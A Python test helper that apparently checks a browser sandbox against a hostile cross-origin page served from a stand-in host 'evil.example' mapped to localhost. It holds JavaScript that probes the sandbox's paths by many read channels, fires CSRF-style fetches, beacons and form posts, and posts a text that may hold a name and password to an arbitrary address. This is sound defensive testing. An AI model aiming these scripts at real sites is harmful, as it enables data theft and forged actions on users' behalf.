"""A page of another origin that tries to read the sandbox and to drive it, by everything that browsers let pages do."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from playwright.sync_api import Browser

from tests.browser.chromium import FLAGS
from tests.programs import program

NAME = "evil.example"
"""The attacker's host name, which leads to this machine."""

READ = """async ([base, paths]) => {
  const read = [];
  const found = (how, path, text) => { if (text) read.push(`${how} ${path}: ${String(text).slice(0, 4000)}`); };
  const within = (work) => Promise.race([work, new Promise((done) => setTimeout(done, 1500))]).catch(() => undefined);
  for (const path of paths) {
    const url = base + path;
    for (const options of [{}, {credentials: "include"}, {mode: "no-cors", credentials: "include"},
        {mode: "same-origin"}, {headers: {Authorization: "Bearer x"}}, {headers: {"X-A": "b"}}]) {
      await within(fetch(url, {...options, signal: AbortSignal.timeout(1200)}).then((one) => one.text())
        .then((text) => found("fetch", path, text)));
    }
    await within(new Promise((done) => {
      const one = new XMLHttpRequest();
      one.open("GET", url); one.withCredentials = true;
      one.onloadend = () => { found("XHR", path, one.responseText); done(); };
      one.timeout = 1200; one.send();
    }));
    const tags = {script: "src", link: "href", img: "src", iframe: "src", object: "data"};
    for (const [tag, name] of Object.entries(tags)) {
      await within(new Promise((done) => {
        const one = document.createElement(tag);
        if (tag === "link") one.rel = "stylesheet";
        one.onload = () => {
          try { found(tag, path, one.contentDocument && one.contentDocument.body.innerText); } catch {}
          try { found(tag, path, one.sheet && one.sheet.cssRules.length); } catch {}
          try { found(tag, path, one.naturalWidth); } catch {}
          done();
        };
        one.onerror = done;
        one[name] = url; document.body.append(one);
      }));
    }
  }
  for (const path of paths.filter((one) => one.includes("live"))) {
    await within(new Promise((done) => {
      const one = new EventSource(base + path, {withCredentials: true});
      one.onopen = () => { found("EventSource", path, "opened"); one.close(); done(); };
      one.onerror = () => { one.close(); done(); };
    }));
  }
  await within(new Promise((done) => {
    const one = new WebSocket(base.replace("http", "ws") + "/");
    one.onopen = () => { found("WebSocket", "/", "opened"); done(); };
    one.onerror = done;
  }));
  const opened = window.open(base + "/");
  await new Promise((done) => setTimeout(done, 300));
  try { found("window", "/", opened.document.body.innerText); } catch {}
  if (opened) opened.close();
  return read;
}"""
"""Tries to read paths; returns what it got."""

DRIVE = """async ([base, changes]) => {
  const sent = [];
  for (const [method, path, body] of changes) {
    for (const kind of ["text/plain", "application/x-www-form-urlencoded", "application/json", "text/xml"])
      for (const mode of ["cors", "no-cors"]) {
        sent.push(Promise.resolve().then(() => fetch(base + path, {method, mode, credentials: "include", body,
          headers: {"Content-Type": kind}, signal: AbortSignal.timeout(5000)})).catch(() => undefined));
      }
    if (method !== "POST") continue;
    navigator.sendBeacon(base + path, body);
    navigator.sendBeacon(base + path, new Blob([body], {type: "text/plain"}));
    for (const referrer of ["", "no-referrer"])
      for (const kind of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
        sent.push(new Promise((done) => {
          const form = document.createElement("form"), frame = document.createElement("iframe");
          const add = (name, value) => {
            const one = document.createElement("input"); one.name = name; one.value = value; form.append(one);
          };
          if (kind === "text/plain") {
            const split = body.indexOf("=") >= 0 ? body.indexOf("=") : body.length;
            add(body.slice(0, split), body.slice(split + 1));
          } else for (const [name, value] of new URLSearchParams(body)) add(name, value);
          frame.name = `f${Math.random()}`; frame.referrerPolicy = referrer;
          form.method = "post"; form.action = base + path; form.enctype = kind; form.target = frame.name;
          document.body.append(frame, form);
          frame.onload = () => done();
          form.submit();
          setTimeout(done, 2000);
        }));
      }
  }
  await Promise.all(sent);
}"""
"""Tries to change things: each a method, a path and a body."""

LEAVE = """([address, body]) => {
  const form = document.createElement("form"), field = document.createElement("input");
  const split = body.indexOf("=");
  field.name = body.slice(0, split); field.value = body.slice(split + 1);
  form.method = "post"; form.action = address; form.enctype = "text/plain";
  form.append(field); document.body.append(form); form.submit();
}"""
"""Posts a text by leaving the page for an address, which may hold a name and a password."""


@contextmanager
def attacking_browser(browser: Browser) -> Iterator[Browser]:
    """Run a browser to which the attacker's name is this machine's, as a name server of his could say."""
    flags = [one for one in FLAGS if not one.startswith("--host-resolver-rules")]
    rules = f"--host-resolver-rules=MAP {NAME} 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost"
    one = browser.browser_type.launch(executable_path=program("chromium"), args=[*flags, rules])
    try:
        yield one
    finally:
        one.close()


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        said: dict[str, Any] = {"secret": "open"}
        is_open = self.path.startswith("/open")
        page = json.dumps(said).encode() if is_open else b"<!doctype html><html lang=en><title>x</title><body>x"
        self.send_response(200)
        self.send_header("Content-Type", "application/json" if is_open else "text/html")
        if is_open:
            self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the name is the library's
        """Say nothing."""


@contextmanager
def attacker_site() -> Iterator[int]:
    """Serve the attacker's page, and at /open a text that every page may read; gives its port."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
